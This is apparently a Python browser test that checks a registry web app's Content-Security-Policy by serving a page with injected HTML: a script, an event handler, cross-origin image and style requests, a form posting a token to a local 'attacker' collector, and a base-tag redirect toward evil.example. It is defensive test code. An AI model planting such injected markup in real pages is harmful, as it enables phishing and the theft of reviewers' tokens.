"""What the registry's Content-Security-Policy still stops if an escaping bug ever let a field
through as markup, checked in a real headless Chromium: the registry's own header middleware
serves a page carrying what such a bug would let in (a script, an event handler, an image and a
style sheet from another origin, a form posting elsewhere, a ``<base>``). The policy (no script,
styles and images from the registry only, forms to it only) blocked all of it but the
``<base>``: ``base-uri`` is no fetch directive, so ``default-src 'none'`` did not cover it, and
an injected ``<base href="https://evil.example/">`` sent every link of the page ("Review queue",
an entry, "Fleet") to the attacker's copy of the registry, a sign-in page for a reviewer's
token, until 2026-12-05. Now the policy sets ``base-uri 'none'``. Not stopped by any policy: a
``<meta http-equiv="refresh">`` navigation; that is why every field is escaped."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from starlette.types import Receive, Scope, Send

from loopback import serving
from mcpward.registry.web._limits import SecurityHeaders
from needs import missing
from test_registry_browser import CHROMIUM, CHROMIUM_ARGS


class _Collector(BaseHTTPRequestHandler):
    """The attacker's server: records what reaches it."""

    reached: ClassVar[list[str]] = []

    def _record(self) -> None:
        self.reached.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, format: str, *args: object) -> None:
        pass


_COLLECTOR = ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
ELSEWHERE = f"http://127.0.0.1:{_COLLECTOR.server_address[1]}"  # another origin


def _injected() -> bytes:
    return f"""<!doctype html><html><head><title>entry</title>
<link rel="stylesheet" href="/static/style.css"></head><body>
<h1>io.github.acme/files <base href="{ELSEWHERE}/"></h1>
<script>document.title = "script ran"</script>
<img src="x.png" onerror="document.title = 'handler ran'">
<img src="{ELSEWHERE}/pixel.gif">
<link rel="stylesheet" href="{ELSEWHERE}/leak.css">
<p style="background: url({ELSEWHERE}/inline.png)">owner</p>
<form id="steal" method="post" action="{ELSEWHERE}/steal"><input name="csrf" value="t"></form>
<a id="queue" href="/queue">Review queue</a>
</body></html>""".encode()


async def _page(scope: Scope, receive: Receive, send: Send) -> None:
    body = _injected() if scope["path"] == "/entries/1" else b""
    kind = b"text/html; charset=utf-8" if scope["path"] == "/entries/1" else b"text/plain"
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", kind)]})
    await send({"type": "http.response.body", "body": body})


@pytest.fixture
def site() -> Iterator[str]:
    with serving(lambda _port: SecurityHeaders(_page)) as address:
        yield address


def test_the_policy_stops_what_an_escaping_bug_would_let_in(site: str) -> None:
    if not os.path.exists(CHROMIUM):
        missing("browser", f"{CHROMIUM} is missing (Debian package chromium)")
    from playwright.sync_api import sync_playwright

    _Collector.reached.clear()
    threading.Thread(target=_COLLECTOR.serve_forever, daemon=True).start()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, timeout=60_000)
        try:
            page = browser.new_page()
            page.goto(f"{site}/entries/1", wait_until="load")
            page.wait_for_timeout(300)
            title = page.title()
            link = page.eval_on_selector("#queue", "a => a.href")
            page.eval_on_selector("#steal", "form => form.submit()")
            page.wait_for_timeout(300)
            after = page.url
        finally:
            browser.close()
            _COLLECTOR.shutdown()
    assert title == "entry", "a script or an event handler ran"
    assert _Collector.reached == [], "the page reached another origin"
    assert after.startswith(site), "a form posted to another origin"
    assert link == f"{site}/queue", f"an injected <base> sent the page's links to {link}"
